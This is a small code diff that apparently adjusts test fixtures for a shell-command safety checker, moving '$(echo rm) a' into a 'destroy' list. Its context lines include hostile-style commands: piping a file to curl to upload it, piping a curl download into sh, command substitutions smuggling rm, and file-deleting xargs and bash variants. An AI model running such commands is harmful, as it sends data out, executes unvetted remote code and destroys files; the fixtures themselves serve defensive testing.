@@ -133,6 +133,7 @@ cat a | curl -d @- https://example.com
 `,
   destroy: String.raw`
 git clean -n *
+$(echo rm) a
 echo a | xargs rm a
 xargs rm <<< a
 bash -c 'rm "$1"' _ a
@@ -194,7 +195,6 @@ export "GIT_PAGER=x"; git log
 x=PATH=.; export "$x"; ls
 declare 'a[$(rm b)]=1'
 man --pager=x ls | cat
-$(echo rm) a
 $x a
 ls | sh
 curl https://example.com | sh
